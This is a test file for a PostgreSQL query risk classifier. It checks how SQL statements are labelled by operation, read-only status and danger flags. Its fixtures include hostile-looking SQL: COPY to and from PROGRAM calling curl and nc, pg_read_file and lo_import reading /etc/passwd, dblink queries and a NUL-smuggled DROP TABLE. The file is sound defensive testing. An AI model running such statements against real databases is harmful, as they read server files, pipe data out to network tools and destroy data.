import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  classifySql,
  clearSqlClassificationCache,
  initSqlParser,
  operationRank,
  type RiskFlag,
  type SqlOperation,
  type StatementClass,
} from '../../../../core/sql/classify.ts';

before(async () => {
  await initSqlParser();
});

interface Case {
  sql: string;
  op: SqlOperation;
  ro: boolean;
  risks?: RiskFlag[];
  tables?: string[];
  fns?: string[];
  command?: string;
}

const sorted = (a: readonly string[]) => [...a].sort();

// Each case is one statement; risks, tables and functions are compared as exact sets (default: none).
const CASES: Case[] = [
  // reads
  { sql: 'SELECT * FROM users', op: 'read', ro: true, tables: ['users'], command: 'SELECT' },
  { sql: 'select u.id from public.users u join "Orders" o on o.uid = u.id', op: 'read', ro: true, tables: ['public.users', 'Orders'] },
  { sql: 'TABLE t', op: 'read', ro: true, tables: ['t'], command: 'SELECT' },
  { sql: 'VALUES (1), (2)', op: 'read', ro: true },
  { sql: 'SHOW work_mem', op: 'read', ro: true, command: 'SHOW' },
  { sql: 'select extract(year from now())', op: 'read', ro: true, fns: ['extract', 'now'] },
  { sql: 'with recursive r as (select 1 union all select n + 1 from r) select * from r, t', op: 'read', ro: true, tables: ['t'] },
  { sql: 'select * from (with a as (select 1) select * from a) x, a', op: 'read', ro: true, tables: ['a'] }, // outer a is a table
  { sql: 'select * from t for update', op: 'read', ro: false, tables: ['t'] },
  // writes, hidden or not
  { sql: 'INSERT INTO t (a) VALUES (1)', op: 'write', ro: false, tables: ['t'], command: 'INSERT' },
  { sql: 'update t set a = 1', op: 'write', ro: false, risks: ['update_without_where'], tables: ['t'], command: 'UPDATE' },
  { sql: 'update t set a = 1 where id = 2', op: 'write', ro: false, tables: ['t'] },
  { sql: 'update t set a = 1 where true', op: 'write', ro: false, risks: ['update_without_where'], tables: ['t'] },
  { sql: 'delete from t', op: 'write', ro: false, risks: ['delete_without_where'], tables: ['t'], command: 'DELETE' },
  { sql: 'delete from t where 1 = 1', op: 'write', ro: false, risks: ['delete_without_where'], tables: ['t'] },
  { sql: 'DELETE FROM t WHERE CURRENT OF c', op: 'write', ro: false, tables: ['t'] },
  { sql: 'merge into t using s on t.id = s.id when matched then delete', op: 'write', ro: false, tables: ['t', 's'], command: 'MERGE' },
  { sql: 'with d as (delete from t returning *) select * from d', op: 'write', ro: false, risks: ['delete_without_where'], tables: ['t'], command: 'SELECT' },
  { sql: 'with a as (with b as (update t set x = 1 where id = 1 returning *) select * from b) select * from a', op: 'write', ro: false, tables: ['t'] },
  {
    sql: 'select * from t where id in (select id from (select id from u where x = (with d as (insert into v values (1) returning id) select id from d)) s)',
    op: 'write', ro: false, tables: ['t', 'u', 'v'],
  },
  { sql: 'with users as (select 1) delete from users where id = 1', op: 'write', ro: false, tables: ['users'] }, // targets are never CTEs
  { sql: 'insert into t select * from u on conflict (id) do update set a = excluded.a', op: 'write', ro: false, tables: ['t', 'u'] },
  { sql: 'SELECT 1 INTO newtable FROM t', op: 'ddl', ro: false, risks: ['select_into'], tables: ['newtable', 't'], command: 'SELECT INTO' },
  { sql: 'TRUNCATE t, s.u', op: 'write', ro: false, risks: ['truncate'], tables: ['t', 's.u'], command: 'TRUNCATE' },
  // functions with side effects, anywhere in the tree
  { sql: "select nextval('s')", op: 'read', ro: false, fns: ['nextval'] },
  { sql: "select a from t order by nextval('s')", op: 'read', ro: false, tables: ['t'], fns: ['nextval'] },
  { sql: "values (1), (setval('s', 10))", op: 'read', ro: false, fns: ['setval'] },
  { sql: "insert into t (a) values (pg_read_file('/etc/passwd'))", op: 'write', ro: false, risks: ['server_file_access'], tables: ['t'], fns: ['pg_read_file'] },
  { sql: "select * from t, lateral (select lo_import('/etc/passwd')) z", op: 'read', ro: false, risks: ['server_file_access'], tables: ['t'], fns: ['lo_import'] },
  { sql: "select lo_export(123, '/tmp/x')", op: 'read', ro: false, risks: ['server_file_access'], fns: ['lo_export'] },
  { sql: "select pg_catalog.pg_read_file('x')", op: 'read', ro: true, risks: ['server_file_access'], fns: ['pg_catalog.pg_read_file'] },
  { sql: `select "PG_CATALOG"."Pg_Read_File"('x')`, op: 'read', ro: true, risks: ['server_file_access'], fns: ['pg_catalog.pg_read_file'] },
  { sql: "select * from pg_ls_dir('.')", op: 'read', ro: true, risks: ['server_file_access'], fns: ['pg_ls_dir'] },
  { sql: 'select pg_terminate_backend(42)', op: 'read', ro: false, risks: ['external_access'], fns: ['pg_terminate_backend'] },
  { sql: 'select 1 where pg_cancel_backend(42)', op: 'read', ro: false, risks: ['external_access'], fns: ['pg_cancel_backend'] },
  { sql: 'select pg_catalog.pg_reload_conf()', op: 'read', ro: false, risks: ['external_access'], fns: ['pg_catalog.pg_reload_conf'] },
  { sql: 'select pg_advisory_lock(1)', op: 'read', ro: false, fns: ['pg_advisory_lock'] },
  {
    sql: "select query_to_xml('delete from t', true, true, '')", op: 'write', ro: false,
    risks: ['delete_without_where', 'dynamic_sql'], tables: ['t'], fns: ['query_to_xml'],
  },
  { sql: "select query_to_xml('select 1', true, true, '')", op: 'read', ro: false, risks: ['dynamic_sql'], fns: ['query_to_xml'] },
  {
    sql: "select * from dblink('dbname=same', 'select * from secrets') as r(a int)", op: 'read', ro: false,
    risks: ['dynamic_sql', 'external_access'], tables: ['secrets'], fns: ['dblink'],
  },
  {
    sql: "select dblink_exec('conn', 'drop table users')", op: 'ddl', ro: false,
    risks: ['dynamic_sql', 'external_access', 'drop'], tables: ['users'], fns: ['dblink_exec'],
  },
  { sql: "select ext.dblink_exec('conn', 'x')", op: 'read', ro: false, risks: ['dynamic_sql', 'external_access'], fns: ['ext.dblink_exec'] },
  { sql: "SELECT set_config('role', 'admin', false)", op: 'read', ro: false, risks: ['set_role'], fns: ['set_config'] },
  { sql: "SELECT set_config('work_mem', '1GB', false)", op: 'read', ro: false, fns: ['set_config'] },
  { sql: "SELECT set_config(current_setting('x'), 'on', false)", op: 'read', ro: false, risks: ['set_role', 'sensitive_setting', 'lexical_setting'], fns: ['set_config', 'current_setting'] },
  // COPY
  { sql: 'COPY t FROM STDIN', op: 'copy_in', ro: false, tables: ['t'], command: 'COPY' },
  { sql: 'COPY public.t (a, b) TO STDOUT WITH (FORMAT csv)', op: 'copy_out', ro: true, tables: ['public.t'] },
  { sql: "COPY t FROM PROGRAM 'curl http://x'", op: 'copy_in', ro: false, risks: ['copy_program'], tables: ['t'] },
  { sql: "COPY t TO '/tmp/f'", op: 'copy_out', ro: false, risks: ['server_file_access'], tables: ['t'] },
  { sql: "COPY (select * from t) TO PROGRAM 'nc x 1'", op: 'copy_out', ro: false, risks: ['copy_program'], tables: ['t'] },
  { sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT', op: 'write', ro: false, risks: ['delete_without_where'], tables: ['t'] },
  // procedural
  { sql: "DO $$ begin insert into t values (1); end $$", op: 'procedural', ro: false, risks: ['do_block'], tables: ['t'], command: 'DO' },
  {
    sql: "DO $$ begin execute 'drop table x'; perform pg_read_file('f'); end $$", op: 'procedural', ro: false,
    risks: ['do_block', 'dynamic_sql', 'server_file_access', 'drop'], tables: ['x'], fns: ['pg_read_file'],
  },
  { sql: "DO $$ begin execute format('drop table %I', 'x'); end $$", op: 'procedural', ro: false, risks: ['do_block', 'dynamic_sql'], fns: ['format'] },
  { sql: 'DO LANGUAGE plpython3u $$ plpy.execute("x") $$', op: 'procedural', ro: false, risks: ['do_block', 'dynamic_sql', 'untrusted_language'] },
  { sql: "DO $$ begin grant all on t to public; end $$", op: 'privilege', ro: false, risks: ['do_block', 'grant_revoke'], tables: ['t'] },
  { sql: "CALL proc(1, nextval('s'))", op: 'procedural', ro: false, fns: ['proc', 'nextval'], command: 'CALL' },
  {
    sql: 'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ begin execute $q$select 1$q$; end $f$', op: 'ddl', ro: false,
    risks: ['dynamic_sql'], command: 'CREATE FUNCTION',
  },
  { sql: 'CREATE FUNCTION f(a int) RETURNS int LANGUAGE plpgsql AS $f$ begin return a + 1; end $f$', op: 'ddl', ro: false },
  { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'delete from t; select 1'", op: 'ddl', ro: false, risks: ['delete_without_where'] },
  { sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC delete from t; select 1; END', op: 'ddl', ro: false, risks: ['delete_without_where'] },
  { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", op: 'ddl', ro: false, risks: ['server_file_access', 'untrusted_language'] },
  { sql: 'CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ begin commit; end $$', op: 'ddl', ro: false, command: 'CREATE PROCEDURE' },
  // EXPLAIN / PREPARE / EXECUTE / cursors
  { sql: 'EXPLAIN DELETE FROM t', op: 'read', ro: true, tables: ['t'], command: 'EXPLAIN' },
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', op: 'write', ro: false, risks: ['delete_without_where', 'explain_analyze'], tables: ['t'] },
  { sql: 'EXPLAIN (ANALYZE off, VERBOSE) UPDATE t SET a = 1', op: 'read', ro: true, tables: ['t'] },
  { sql: 'EXPLAIN (ANALYZE, BUFFERS) select * from t', op: 'read', ro: true, risks: ['explain_analyze'], tables: ['t'] },
  { sql: 'PREPARE p(int) AS UPDATE t SET a = $1 WHERE id = $1', op: 'write', ro: false, tables: ['t'], command: 'PREPARE' },
  { sql: 'PREPARE q AS SELECT * FROM t WHERE id = $1', op: 'read', ro: true, tables: ['t'] },
  { sql: 'EXECUTE p(1)', op: 'unknown', ro: false, command: 'EXECUTE' },
  { sql: 'DEALLOCATE p', op: 'session', ro: true, command: 'DEALLOCATE' },
  { sql: 'DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t', op: 'read', ro: true, tables: ['t'], command: 'DECLARE CURSOR' },
  { sql: 'FETCH 10 FROM c', op: 'read', ro: true, command: 'FETCH' },
  { sql: 'CLOSE c', op: 'session', ro: true },
  // DDL
  { sql: 'CREATE TABLE t (id int primary key, a text)', op: 'ddl', ro: false, tables: ['t'], command: 'CREATE TABLE' },
  { sql: 'create table x as select * from t', op: 'ddl', ro: false, tables: ['x', 't'], command: 'CREATE TABLE AS' },
  { sql: 'create table x as execute p', op: 'unknown', ro: false, tables: ['x'] },
  { sql: 'create materialized view mv as select * from t with no data', op: 'ddl', ro: false, tables: ['mv', 't'], command: 'CREATE MATERIALIZED VIEW' },
  { sql: 'create view v as select * from t', op: 'ddl', ro: false, tables: ['v', 't'], command: 'CREATE VIEW' },
  { sql: 'create index i on t (lower(a))', op: 'ddl', ro: false, tables: ['t'], fns: ['lower'], command: 'CREATE INDEX' },
  { sql: 'alter table t drop column a', op: 'ddl', ro: false, risks: ['drop'], tables: ['t'], command: 'ALTER TABLE' },
  { sql: 'DROP TABLE a, s.b CASCADE', op: 'ddl', ro: false, risks: ['drop'], tables: ['a', 's.b'], command: 'DROP TABLE' },
  { sql: 'DROP FUNCTION f(int)', op: 'ddl', ro: false, risks: ['drop'], command: 'DROP FUNCTION' },
  { sql: 'DROP DATABASE d', op: 'ddl', ro: false, risks: ['drop'], command: 'DROP DATABASE' },
  { sql: 'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', op: 'ddl', ro: false, risks: ['delete_without_where'], tables: ['t', 'u'], command: 'CREATE RULE' },
  { sql: 'create trigger tr before insert on t for each row execute function f()', op: 'ddl', ro: false, tables: ['t'], fns: ['f'] },
  { sql: "create server s foreign data wrapper postgres_fdw options (host 'x')", op: 'ddl', ro: false, risks: ['external_access'], command: 'CREATE SERVER' },
  // privileges and roles
  { sql: 'GRANT SELECT ON t TO bob', op: 'privilege', ro: false, risks: ['grant_revoke'], tables: ['t'], command: 'GRANT' },
  { sql: 'REVOKE ALL ON SCHEMA s FROM bob', op: 'privilege', ro: false, risks: ['grant_revoke'], command: 'REVOKE' },
  { sql: 'GRANT admin TO bob', op: 'privilege', ro: false, risks: ['grant_revoke'] },
  { sql: "CREATE ROLE x LOGIN PASSWORD 'p'", op: 'privilege', ro: false, risks: ['role_change'], command: 'CREATE ROLE' },
  { sql: "CREATE USER x", op: 'privilege', ro: false, risks: ['role_change'], command: 'CREATE USER' },
  { sql: 'ALTER ROLE x SUPERUSER', op: 'privilege', ro: false, risks: ['role_change'], command: 'ALTER ROLE' },
  { sql: 'DROP ROLE x', op: 'privilege', ro: false, risks: ['role_change', 'drop'] },
  // admin
  { sql: 'VACUUM ANALYZE t', op: 'admin', ro: false, tables: ['t'], command: 'VACUUM' },
  { sql: 'ANALYZE t', op: 'admin', ro: false, tables: ['t'], command: 'ANALYZE' },
  { sql: 'CLUSTER t USING i', op: 'admin', ro: false, tables: ['t'] },
  { sql: 'REINDEX TABLE t', op: 'admin', ro: false, tables: ['t'] },
  { sql: "ALTER SYSTEM SET work_mem = '1GB'", op: 'admin', ro: false, risks: ['alter_system'], command: 'ALTER SYSTEM' },
  { sql: "LOAD 'auto_explain'", op: 'admin', ro: false, risks: ['server_file_access'] },
  // transactions, session, utility
  { sql: 'BEGIN', op: 'transaction', ro: true, command: 'BEGIN' },
  { sql: 'COMMIT', op: 'transaction', ro: true, command: 'COMMIT' },
  { sql: 'SAVEPOINT a', op: 'transaction', ro: true, command: 'SAVEPOINT' },
  { sql: 'ROLLBACK TO SAVEPOINT a', op: 'transaction', ro: true },
  { sql: 'BEGIN READ WRITE', op: 'transaction', ro: false, risks: ['sensitive_setting'] },
  { sql: "PREPARE TRANSACTION 'x'", op: 'transaction', ro: false, command: 'PREPARE TRANSACTION' },
  { sql: 'SET search_path TO a, public', op: 'session', ro: true, command: 'SET' },
  { sql: 'SET LOCAL statement_timeout = 0', op: 'session', ro: true },
  { sql: 'SET default_transaction_read_only = off', op: 'session', ro: false, risks: ['sensitive_setting'] },
  { sql: 'SET transaction_read_only = on', op: 'session', ro: true },
  { sql: 'SET TRANSACTION READ WRITE', op: 'session', ro: false, risks: ['sensitive_setting'] },
  { sql: 'SET ROLE admin', op: 'session', ro: false, risks: ['set_role'] },
  { sql: 'SET SESSION AUTHORIZATION postgres', op: 'session', ro: false, risks: ['set_role'] },
  { sql: 'RESET ROLE', op: 'session', ro: false, risks: ['set_role'], command: 'RESET' },
  { sql: 'RESET ALL', op: 'session', ro: true, command: 'RESET' },
  { sql: 'DISCARD ALL', op: 'session', ro: false, risks: ['set_role'], command: 'DISCARD ALL' },
  { sql: 'DISCARD PLANS', op: 'session', ro: true },
  { sql: 'LISTEN ch', op: 'session', ro: true, command: 'LISTEN' },
  { sql: 'UNLISTEN *', op: 'session', ro: true },
  { sql: "NOTIFY ch, 'x'", op: 'utility', ro: false, command: 'NOTIFY' },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', op: 'utility', ro: false, tables: ['t'], command: 'LOCK' },
];

function only(sql: string): StatementClass {
  const r = classifySql(sql);
  assert.equal(r.parseError, undefined, `parse error for ${sql}: ${r.parseError?.message}`);
  assert.equal(r.statements.length, 1, sql);
  return r.statements[0]!;
}

describe('classifySql: statement table', () => {
  it('has at least 50 cases', () => assert.ok(CASES.length >= 50));
  for (const c of CASES) {
    it(c.sql, () => {
      const s = only(c.sql);
      assert.equal(s.operation, c.op, 'operation');
      assert.equal(s.readOnly, c.ro, 'readOnly');
      assert.deepEqual(sorted(s.risks), sorted(c.risks ?? []), 'risks');
      assert.deepEqual(sorted(s.tables), sorted(c.tables ?? []), 'tables');
      assert.deepEqual(sorted(s.functions), sorted(c.fns ?? []), 'functions');
      if (c.command) assert.equal(s.command, c.command, 'command');
      assert.equal(s.text, c.sql);
      assert.deepEqual(s.location, { start: 0, length: c.sql.length });
    });
  }
});

describe('classifySql: nested statements', () => {
  it('lists a data-modifying CTE with its own text and location', () => {
    const sql = 'with x as (delete from t returning *) select * from x';
    const s = only(sql);
    assert.equal(s.nested.length, 1);
    const n = s.nested[0]!;
    assert.equal(n.command, 'DELETE');
    assert.equal(n.operation, 'write');
    assert.equal(n.text, 'delete from t returning *');
    assert.equal(sql.slice(n.location.start, n.location.start + n.location.length), n.text);
    assert.deepEqual(n.risks, ['delete_without_where']);
  });

  it('finds a CTE write nested inside a CTE', () => {
    const sql = 'with a as (with b as (update t set x = 1 returning *) select * from b) select * from a';
    const s = only(sql);
    assert.equal(s.operation, 'write');
    assert.deepEqual(s.risks, ['update_without_where']);
    assert.equal(s.nested[0]?.text, 'update t set x = 1 returning *');
  });

  it('nests the statement of EXPLAIN, PREPARE, CREATE TABLE AS, DECLARE and COPY', () => {
    const cases: [string, string, string][] = [
      ['EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t', 'DELETE', 'DELETE FROM t'],
      ['EXPLAIN ANALYZE VERBOSE SELECT 1', 'SELECT', 'SELECT 1'],
      ['PREPARE p(int) AS UPDATE t SET a = $1', 'UPDATE', 'UPDATE t SET a = $1'],
      ['CREATE TABLE x (a) AS SELECT 1 WITH NO DATA', 'SELECT', 'SELECT 1'],
      ['DECLARE c NO SCROLL CURSOR FOR SELECT * FROM t', 'SELECT', 'SELECT * FROM t'],
      ['COPY (DELETE FROM t RETURNING *) TO STDOUT', 'DELETE', 'DELETE FROM t RETURNING *'],
    ];
    for (const [sql, command, text] of cases) {
      const n = only(sql).nested[0];
      assert.ok(n, sql);
      assert.equal(n.command, command, sql);
      assert.equal(n.text, text, sql);
      assert.equal(sql.slice(n.location.start, n.location.start + n.location.length), text, sql);
    }
  });

  it('nests each action of a rule', () => {
    const sql = 'CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM u WHERE a = new.a; NOTIFY ch)';
    const s = only(sql);
    assert.deepEqual(s.nested.map((n) => [n.command, n.text]), [['DELETE', 'DELETE FROM u WHERE a = new.a'], ['NOTIFY', 'NOTIFY ch']]);
  });

  it('nests the statements a DO block runs, located inside the block', () => {
    const sql = 'DO $$ begin update t set a = 1 where id = 2; end $$';
    const n = only(sql).nested[0]!;
    assert.equal(n.command, 'UPDATE');
    assert.equal(sql.slice(n.location.start, n.location.start + n.location.length), 'update t set a = 1 where id = 2');
  });

  it('reads EXECUTE of a constant string in a DO block', () => {
    const s = only("DO $$ begin execute 'delete from secret'; end $$");
    assert.equal(s.operation, 'procedural');
    assert.deepEqual(s.tables, ['secret']);
    assert.ok(s.risks.includes('delete_without_where'));
    assert.ok(s.risks.includes('dynamic_sql'));
  });

  it('marks EXECUTE with the prepared statement name', () => {
    const s = only('EXECUTE my_stmt(1, 2)');
    assert.equal(s.preparedName, 'my_stmt');
    assert.equal(s.operation, 'unknown');
  });

  it('keeps SELECT INTO source as a nested SELECT', () => {
    const s = only('SELECT a INTO TEMP x FROM t');
    assert.equal(s.nested[0]?.command, 'SELECT');
    assert.equal(s.nested[0]?.operation, 'read');
  });
});

describe('classifySql: query-level results', () => {
  it('returns no statements for an empty query', () => {
    for (const sql of ['', ';', ' ;; ', '   ', '\n\t', '-- only a comment', '/* c */', '/* c */ ; -- x']) {
      const r = classifySql(sql);
      assert.equal(r.parseError, undefined, JSON.stringify(sql));
      assert.deepEqual(r.statements, [], JSON.stringify(sql));
      assert.equal(r.readOnly, true);
      assert.deepEqual(r.risks, []);
    }
  });

  it('splits a multi-statement query with exact locations and texts', () => {
    const sql = 'select 1;  update t set a = 1 where id = 1 ;\n/* c */ SELECT 2; ';
    const r = classifySql(sql);
    assert.deepEqual(r.statements.map((s) => s.text), ['select 1', 'update t set a = 1 where id = 1', 'SELECT 2']);
    for (const s of r.statements) assert.equal(sql.slice(s.location.start, s.location.start + s.location.length), s.text);
    assert.deepEqual(r.statements.map((s) => s.location.start), [0, sql.indexOf('update'), sql.indexOf('SELECT 2')]);
    assert.equal(r.readOnly, false);
    assert.deepEqual(r.risks, ['multi_statement']);
    assert.ok(!r.statements.some((s) => s.risks.includes('multi_statement')));
  });

  it('computes locations in string offsets when the text has multi-byte characters', () => {
    const sql = "select 'é😀' from ünïcode; delete from ö where a = 'ß'";
    const r = classifySql(sql);
    assert.deepEqual(r.statements.map((s) => s.text), ["select 'é😀' from ünïcode", "delete from ö where a = 'ß'"]);
    for (const s of r.statements) assert.equal(sql.slice(s.location.start, s.location.start + s.location.length), s.text);
    assert.deepEqual(r.statements[0]?.tables, ['ünïcode']);
  });

  it('reports a parse error as one unknown statement', () => {
    const sql = 'select 1; selec 2';
    const r = classifySql(sql);
    assert.equal(r.parseError?.message, 'syntax error at or near "selec"');
    assert.equal(r.parseError?.cursorPosition, 10);
    assert.equal(r.readOnly, false);
    assert.deepEqual(r.risks, ['parse_error']);
    assert.equal(r.statements.length, 1);
    const s = r.statements[0]!;
    assert.equal(s.operation, 'unknown');
    assert.equal(s.readOnly, false);
    assert.deepEqual(s.risks, ['parse_error']);
    assert.equal(s.text, sql);
  });

  it('refuses CREATE TABLE AS DELETE (not valid SQL)', () => {
    assert.deepEqual(classifySql('create table x as delete from t returning *').risks, ['parse_error']);
  });

  it('refuses text with a NUL character (the parser would stop reading there)', () => {
    const r = classifySql('select 1\0; drop table users');
    assert.deepEqual(r.risks, ['parse_error']);
    assert.equal(r.readOnly, false);
  });

  it('is not fooled by semicolons in comments or dollar-quoted strings', () => {
    const a = classifySql('select 1 /* ; drop table x */');
    assert.equal(a.statements.length, 1);
    assert.equal(a.readOnly, true);
    assert.equal(a.statements[0]?.text, 'select 1 /* ; drop table x */');
    const b = classifySql('select $q$ ; drop table x; $q$ as a -- ; delete from y\n');
    assert.equal(b.statements.length, 1);
    assert.equal(b.statements[0]?.operation, 'read');
    assert.deepEqual(b.statements[0]?.risks, []);
    const c = classifySql("select 'a;b', $$;$$; drop table x");
    assert.deepEqual(c.statements.map((s) => s.command), ['SELECT', 'DROP TABLE']);
  });

  it('fails closed on absurdly deep nesting', () => {
    const sql = 'select 1 where ' + 'not '.repeat(5000) + 'true';
    const r = classifySql(sql);
    assert.equal(r.readOnly, false);
    assert.equal(r.statements[0]?.operation, 'unknown');
    assert.ok(r.parseError);
  });

  it('caches by exact text and returns frozen results', () => {
    clearSqlClassificationCache();
    const a = classifySql('select * from t where id = 1');
    const b = classifySql('select * from t where id = 1');
    assert.equal(a, b);
    assert.notEqual(classifySql('select * from t where id = 1 '), a);
    assert.ok(Object.isFrozen(a));
    assert.ok(Object.isFrozen(a.statements));
    assert.ok(Object.isFrozen(a.statements[0]!.tables));
    assert.ok(Object.isFrozen(a.statements[0]!.location));
    assert.throws(() => { (a.statements[0]!.tables as string[]).push('x'); }, TypeError);
  });

  it('evicts the least recently used entry beyond 2,000', () => {
    clearSqlClassificationCache();
    const first = classifySql('select 0');
    for (let i = 1; i <= 2000; i++) classifySql(`select ${i}`);
    assert.notEqual(classifySql('select 0'), first);
    const kept = classifySql('select 2000');
    assert.equal(classifySql('select 2000'), kept);
  });

  it('orders operations by danger', () => {
    assert.ok(operationRank('read') < operationRank('write'));
    assert.ok(operationRank('write') < operationRank('ddl'));
    assert.ok(operationRank('privilege') < operationRank('unknown'));
  });
});

describe('classifySql: properties', () => {
  const checkShape = (sql: string) => {
    const r = classifySql(sql);
    if (r.parseError) {
      assert.equal(r.statements.length, 1);
      assert.equal(r.readOnly, false);
      return;
    }
    for (const s of r.statements) {
      assert.equal(sql.slice(s.location.start, s.location.start + s.location.length), s.text);
      if (s.readOnly) assert.ok(operationRank(s.operation) <= operationRank('copy_out'), `${s.operation} read-only in ${sql}`);
    }
    assert.equal(r.readOnly, r.statements.every((s) => s.readOnly));
  };

  it('never throws on arbitrary strings', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (sql) => { checkShape(sql); }), { numRuns: 500 });
  });

  it('never throws on SQL-like token soup', () => {
    const token = fc.constantFrom(
      'select', 'insert', 'into', 'update', 'delete', 'from', 'where', 'with', 'as', '(', ')', ';', ',', '*', '=', 't', 'u', 'x',
      '1', "'a'", '$$', '$q$', 'do', 'copy', 'to', 'stdout', 'explain', 'analyze', 'returning', 'set', 'values', 'é', '--', '/*', '*/',
      'pg_read_file(1)', 'nextval(1)', 'create', 'table', 'drop', 'begin', 'commit', 'execute', 'prepare', 'p',
    );
    fc.assert(fc.property(fc.array(token, { maxLength: 30 }), (tokens) => { checkShape(tokens.join(' ')); }), { numRuns: 1000 });
  });
});
